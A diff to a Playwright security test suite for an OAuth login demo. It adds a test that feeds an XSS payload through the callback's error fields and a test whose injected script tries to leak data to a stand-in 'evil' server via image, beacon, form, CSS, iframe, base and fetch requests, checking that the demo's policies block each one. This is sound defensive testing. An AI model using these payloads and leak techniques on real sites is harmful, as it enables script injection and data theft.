@@ -3,7 +3,7 @@
 from __future__ import annotations
 
 from collections.abc import Callable
-from urllib.parse import parse_qs, urlsplit
+from urllib.parse import parse_qs, quote, urlsplit
 
 import pytest
 from playwright.sync_api import Page, Request, expect
@@ -20,7 +20,7 @@ VIEWS = {"Session": "Session", "Token": "TokenOnly", "JWT": "JWTPairOnly"}
 
 
 @pytest.mark.expects_console("frame-ancestors|X-Frame-Options|Cross-Origin-Opener-Policy")
-@pytest.mark.parametrize("path", ["", CALLBACK + "?code=x&state=x", "api/me/"])
+@pytest.mark.parametrize("path", ["", CALLBACK + "?code=x&state=x", "api/me/", "api/docs/"])
 def test_X05_X17_nothing_of_ours_shows_in_a_frame(
     page: Page, demo: Demo, evil: Serve, path: str
 ) -> None:
@@ -87,6 +87,58 @@ def test_X09_markup_in_a_name_is_a_name(login: LoginPage) -> None:
     expect(login.profile.first).to_contain_text("<")
     assert login.page.evaluate("window.attacked") is None
     assert login.page.locator("main script, main iframe, main [onerror]").count() == 0
+
+
+def test_X09_a_provider_s_words_are_neither_our_sentence_nor_markup(
+    login: LoginPage,
+) -> None:
+    consent = login.begin("GitHub")
+    expect(consent.heading).to_be_visible()
+    state = parse_qs(urlsplit(consent.page.url).query)["state"][0]
+    markup = quote("<img src=x onerror='attacked = 1'>canary")
+
+    consent.page.goto(f"/{CALLBACK}?error={markup}&error_description={markup}&state={state}")
+
+    expect(login.problem).to_contain_text("reported an error")
+    expect(login.problem).not_to_contain_text("canary")
+    assert login.page.locator("[onerror]").count() == 0
+    assert login.page.evaluate("window.attacked") is None
+
+
+@pytest.mark.expects_console("Content Security Policy|violates the following")
+@pytest.mark.parametrize("path", ["/", f"/{CALLBACK}"])
+def test_X10_a_script_that_runs_all_the_same_sends_nothing_elsewhere(
+    page: Page, evil: Serve, path: str
+) -> None:
+    elsewhere = evil("")
+    reached: list[str] = []
+    page.context.on("requestfinished", lambda each: reached.append(each.url))
+    page.goto(path)
+
+    page.evaluate(
+        """async elsewhere => {
+          const leak = elsewhere + '?leak'
+          new Image().src = leak
+          navigator.sendBeacon(leak, 'x')
+          const form = Object.assign(document.createElement('form'), { action: leak })
+          document.body.append(form)
+          form.submit()
+          const style = document.createElement('style')
+          style.textContent = `body { background: url(${leak}) }`
+          document.head.append(style)
+          const frame = document.createElement('iframe')
+          frame.src = leak
+          document.body.append(frame)
+          const base = Object.assign(document.createElement('base'), { href: elsewhere })
+          document.head.prepend(base)
+          await fetch(leak, { mode: 'no-cors' }).catch(() => {})
+        }""",
+        elsewhere,
+    )
+    page.wait_for_timeout(300)
+
+    assert not [each for each in reached if each.startswith(elsewhere)]
+    assert not page.evaluate("document.baseURI").startswith(elsewhere)
 
 
 @pytest.mark.expects_console("Content Security Policy|TrustedHTML|TrustedScript|Trusted Type")
